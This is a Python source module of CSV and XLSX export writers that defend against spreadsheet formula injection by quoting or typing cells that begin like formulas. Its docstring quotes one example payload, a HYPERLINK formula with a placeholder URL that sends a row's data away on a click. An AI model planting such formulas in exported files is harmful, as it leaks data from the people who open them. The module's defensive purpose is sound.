"""The file writers every export shares: CSV in UTF-8 with a byte-order mark (so Excel
opens the Chinese text correctly), streamed line by line or written to a file, and
XLSX through openpyxl's write-only mode (rows go straight to disk, memory stays flat).

Each app decides its own columns, rows, masking and audit; this module only turns
rows into bytes, so the encoding, layout and safety rules live in one place. No other
module calls `csv.writer` or builds a workbook (tests/platform/test_exports.py).

Formula injection: a cell whose text starts with `=`, `+`, `-`, `@`, a tab or a
carriage return is run as a formula by Excel and LibreOffice when the file is
opened (`=HYPERLINK("http://…"&A1,"点击")` sends the row's data away on a click).
Apps pass values as they are; the writers make text stay text:

- XLSX: every text cell is written as a string cell (`t="inlineStr"`), never a formula
  (openpyxl would make a formula of any text starting with `=`), and text that looks
  like a formula also carries Excel's quote prefix, so editing the cell keeps it text.
  The value itself is unchanged. Characters XML cannot hold are dropped.
- CSV has no types: such text gets a leading apostrophe (the OWASP advice), which
  the spreadsheet shows and does not run.

Numbers (int, float, Decimal) stay numbers in both: -5 is a number, not a formula.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator, Sequence
from decimal import Decimal

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

CONTENT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}
BOM = "\ufeff"
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
NUMBERS = (int, float, Decimal)


class Strong(list):
    """A row written in bold in a workbook (titles, headers, totals); a plain list in CSV."""


class _Line:
    """A file-like object whose write returns what was written: csv.writer then
    yields one line at a time instead of holding the file."""

    def write(self, value: str) -> str:
        return value


def looks_like_formula(value: str) -> bool:
    return value.startswith(FORMULA_PREFIXES)


def formula_safe(value: str) -> str:
    """CSV text that starts like a formula, with a leading apostrophe so a spreadsheet
    shows it instead of running it. Idempotent: quoted text starts with `'`."""
    return f"'{value}" if looks_like_formula(value) else value


def _texts(row: Sequence) -> list:
    # Lazy translations and other objects become their text; numbers stay numbers.
    return [value if value is None or isinstance(value, NUMBERS) else str(value) for value in row]


def csv_row(row: Sequence) -> list:
    """One CSV row as it is written: numbers as they are, text formula-safe."""
    return [formula_safe(v) if isinstance(v, str) else v for v in _texts(row)]


def csv_lines(rows: Iterable[Sequence]) -> Iterator[str]:
    """Each row as one CSV line (text, no BOM): for callers that stream their own
    pieces (the public ledger's open data)."""
    writer = csv.writer(_Line())
    for row in rows:
        yield writer.writerow(csv_row(row))


def csv_stream(header: Sequence, rows: Iterable[Sequence]) -> Iterator[bytes]:
    """The CSV as an iterator of encoded lines, the first one carrying the BOM."""
    lines = csv_lines(_with_header(header, rows))
    yield (BOM + next(lines)).encode()
    for line in lines:
        yield line.encode()


def _with_header(header: Sequence, rows: Iterable[Sequence]) -> Iterator[Sequence]:
    yield header
    yield from rows


def csv_write(header: Sequence, rows: Iterable[Sequence], out) -> None:
    """The CSV into a binary file, which is left open (the response sends it)."""
    text = io.TextIOWrapper(out, encoding="utf-8-sig", newline="")
    writer = csv.writer(text)
    writer.writerow(csv_row(header))
    for row in rows:
        writer.writerow(csv_row(row))
    text.flush()
    text.detach()  # keep the binary file open for the response


def xlsx_write(
    rows: Iterable[Sequence],
    out,
    *,
    sheet: str,
    header: Sequence = (),
    widths: Sequence[int] = (),
    preamble: Iterable[Sequence] = (),
) -> None:
    """A one-sheet workbook into `out`: `preamble` rows (e.g. a title) and the header
    in bold, then the rows; a `Strong` row is bold too (e.g. a total)."""
    wb = Workbook(write_only=True)
    ws = wb.create_sheet(sheet)
    for index, width in enumerate(widths, start=1):
        ws.column_dimensions[get_column_letter(index)].width = width
    for row in preamble:
        xlsx_append(ws, row, bold=True)
    if header:
        xlsx_append(ws, header, bold=True)
    for row in rows:
        xlsx_append(ws, row, bold=isinstance(row, Strong))
    wb.save(out)


def workbook() -> Workbook:
    """A workbook for a file that is not one plain table (the import templates, with
    comments and drop-downs); its rows go in through `xlsx_append`."""
    return Workbook()


def xlsx_cell(ws, value, *, bold: bool = False) -> WriteOnlyCell:
    """One cell of a write-only sheet: a number stays a number; text is a string
    cell whatever it starts with (never a formula), quote-prefixed when it looks like one."""
    if value is not None and not isinstance(value, NUMBERS):
        value = ILLEGAL_CHARACTERS_RE.sub("", str(value))
    cell = WriteOnlyCell(ws, value=value)
    if isinstance(value, str):
        cell.data_type = "s"
        if looks_like_formula(value):
            cell.quotePrefix = True
    if bold:
        cell.font = Font(bold=True)
    return cell


def xlsx_row(ws, row: Sequence, *, bold: bool = False) -> list[WriteOnlyCell]:
    return [xlsx_cell(ws, value, bold=bold) for value in row]


def xlsx_append(ws, row: Sequence, *, bold: bool = False) -> list[WriteOnlyCell]:
    """Append one row of safe cells to a sheet (write-only or not); the cells, for a
    caller that styles them further (a fill, a comment)."""
    cells = xlsx_row(ws, row, bold=bold)
    ws.append(cells)
    return cells
